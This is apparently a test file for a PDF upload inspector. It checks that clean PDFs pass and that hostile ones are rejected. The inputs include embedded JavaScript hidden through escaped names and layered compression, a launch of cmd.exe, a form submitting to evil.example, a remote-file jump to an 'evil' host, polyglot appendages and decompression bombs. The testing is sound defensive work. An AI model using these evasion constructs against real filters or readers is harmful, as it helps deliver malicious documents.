import { deflateSync } from 'node:zlib'
import { expect, test } from 'vitest'
import { makePdf, objectStream, streamObject } from '#tests/support/make-pdf.ts'
import { inspectPdf } from './pdf.server.ts'

const script = '<< /S /JavaScript /JS (app.alert(1)) >>'
const zip = Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])
const codeOf = (bytes: Buffer) =>
  inspectPdf(bytes).then(
    () => 'accepted',
    (error: { code: string }) => error.code,
  )

test.each([
  ['one page', makePdf()],
  ['links and bookmarks', makePdf({ 6: '<< /S /URI /URI (https://dian.gov.co) >>', 7: '<< /Type /Outlines /First 8 0 R >>' })],
  ['compressed objects', makePdf({ 6: objectStream('<< /Type /Font >>') })],
  ['a picture', makePdf({ 6: streamObject('/Subtype /Image /Filter [/ASCII85Decode /DCTDecode]', Buffer.alloc(5000, 255)) })],
  ['two revisions', Buffer.concat([makePdf(), Buffer.from(`6 0 obj\n<< >>\nendobj\n${tailOf(makePdf())}`)])],
  ['a blank line at its end', Buffer.concat([makePdf(), Buffer.from('\r\n\0\n')])],
  ['words that look like names in its text', makePdf({ 6: streamObject('', 'BT (Launching, JavaScript course) Tj ET') })],
])('a PDF with %s is accepted and kept as it came', async (_, bytes) => {
  expect((await inspectPdf(bytes)).content.equals(bytes)).toBe(true)
})

test.each([
  ['a script', makePdf({ 6: script })],
  ['a script that runs when it is opened', makePdf({ 1: `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} >>` })],
  ['a script under an escaped name', makePdf({ 6: '<< /S /J#61va#53cript /JS (x) >>' })],
  ['a script whose every letter is escaped', makePdf({ 6: '<< /S /#4a#61#76#61#53#63#72#69#70#74 /JS (x) >>' })],
  ['a script in a compressed object', makePdf({ 6: objectStream(script) })],
  ['a script in an uncompressed object stream', makePdf({ 6: streamObject('/Type /ObjStm /N 1 /First 5', `20 0 ${script}`) })],
  ['a compressed script under an escaped key', makePdf({ 6: escapedFirst(objectStream(script)) })],
  [
    'a compressed script whose stream claims to be a picture',
    makePdf({ 6: objectStream(script, '/Subtype /Image /Filter /FlateDecode') }),
  ],
  [
    'a compressed script behind a string that looks like an object',
    makePdf({ 6: objectStream(script, '/X (\\) 1 0 obj <<) /Filter /FlateDecode') }),
  ],
  [
    'a compressed script behind a long comment',
    makePdf({ 6: objectStream(script, `%${'x'.repeat(100_000)}\n/Filter /FlateDecode`) }),
  ],
  [
    'a compressed script inside of another stream',
    makePdf({ 6: streamObject('', Buffer.concat([Buffer.from('7 0 obj '), objectStream(script)])) }),
  ],
  [
    'compressed objects whose compression is named elsewhere',
    makePdf({ 6: objectStream(script, '/Filter 7 0 R'), 7: '/FlateDecode' }),
  ],
  ['objects compressed twice', makePdf({ 6: twiceCompressed() })],
  ['objects compressed in a way that is not opened', makePdf({ 6: objectStream(script, '/Filter /LZWDecode') })],
  ['a launch', makePdf({ 6: '<< /S /Launch /F (cmd.exe) >>' })],
  ['an attachment', makePdf({ 6: streamObject('/Type /EmbeddedFile', 'MZ') })],
  ['a form that sends itself', makePdf({ 6: '<< /S /SubmitForm /F (https://evil.example) >>' })],
  ['a form that holds programs (XFA)', makePdf({ 1: '<< /Type /Catalog /Pages 2 0 R /AcroForm << /XFA 6 0 R >> >>' })],
  ['a jump to a file of the network', makePdf({ 6: '<< /S /GoToR /F (\\\\\\\\evil\\\\x) >>' })],
  ['multimedia', makePdf({ 6: '<< /Subtype /RichMedia >>' })],
  ['an archive behind its end', Buffer.concat([makePdf(), zip])],
  ['an archive in a comment before its end', beforeEnd(makePdf(), Buffer.concat([Buffer.from('%'), zip, Buffer.from('\n')]))],
  ['a page of HTML in its first lines', afterHeader(makePdf(), '<html><script>alert(1)</script>')],
  ['something else behind its end', Buffer.concat([makePdf(), Buffer.from('#!/bin/sh')])],
  ['a bomb of compressed objects', makePdf({ 6: objectStream(' '.repeat(40 * 1024 * 1024)) })],
  ['many bombs', makePdf(Object.fromEntries(Array.from({ length: 8 }, (_, i) => [6 + i, objectStream(' '.repeat(12_000_000))])))],
])('a PDF with %s is unsafe', async (_, bytes) => {
  expect(await codeOf(bytes)).toBe('uploads.unsafe-pdf')
})

test.each([
  ['in its trailer', makePdf({}, { trailer: '/Encrypt 6 0 R' })],
  ['in a stream of references', makePdf({ 6: streamObject('/Type /XRef /#45ncrypt 7 0 R', 'x') })],
])('a PDF that says it is encrypted %s can be saved anew without', async (_, bytes) => {
  expect(await codeOf(bytes)).toBe('uploads.encrypted-pdf')
})

test.each([
  ['cut in the middle', makePdf().subarray(0, 400)],
  ['without its last line', makePdf().subarray(0, -7)],
  ['without pages', makePdf({ 3: '<< >>' })],
  [
    'whose table is elsewhere',
    Buffer.from(
      makePdf()
        .toString('latin1')
        .replace(/startxref\n\d+/, 'startxref\n7'),
      'latin1',
    ),
  ],
  [
    'whose compressed objects are broken',
    makePdf({ 6: streamObject('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', 'no zlib') }),
  ],
  ['that is a header alone', Buffer.from('%PDF-1.7')],
  ['with something before its header', Buffer.concat([Buffer.from('GIF89a'), makePdf()])],
])('a PDF %s is damaged', async (_, bytes) => {
  expect(await codeOf(bytes)).toBe('uploads.damaged')
})

test('a file made to be slow is given up soon', async () => {
  const startedAt = performance.now()
  for (const piece of ['1 0 obj<</A(', '1 0 obj<<', 'obj<<[', '/#41#41', 'stream\n', 'obj<</First 1>>stream\n'])
    await codeOf(Buffer.concat([makePdf().subarray(0, -60), Buffer.from(piece.repeat(300_000)), Buffer.from(tailOf(makePdf()))]))
  expect(performance.now() - startedAt).toBeLessThan(20_000)
})

function tailOf(pdf: Buffer): string {
  return pdf.toString('latin1').slice(pdf.lastIndexOf('startxref'))
}

function beforeEnd(pdf: Buffer, bytes: Buffer): Buffer {
  const at = pdf.lastIndexOf('startxref')
  return Buffer.concat([pdf.subarray(0, at), bytes, pdf.subarray(at)])
}

function afterHeader(pdf: Buffer, text: string): Buffer {
  return Buffer.concat([pdf.subarray(0, 9), Buffer.from(`%${text}\n`), pdf.subarray(9)])
}

function escapedFirst(stream: Buffer): Buffer {
  return Buffer.from(stream.toString('latin1').replace('/First', '/Fi#72st'), 'latin1')
}

function twiceCompressed(): Buffer {
  return streamObject(
    '/Type /ObjStm /N 1 /First 5 /Filter [/FlateDecode /FlateDecode]',
    deflateSync(deflateSync(`20 0 ${script}`)),
  )
}
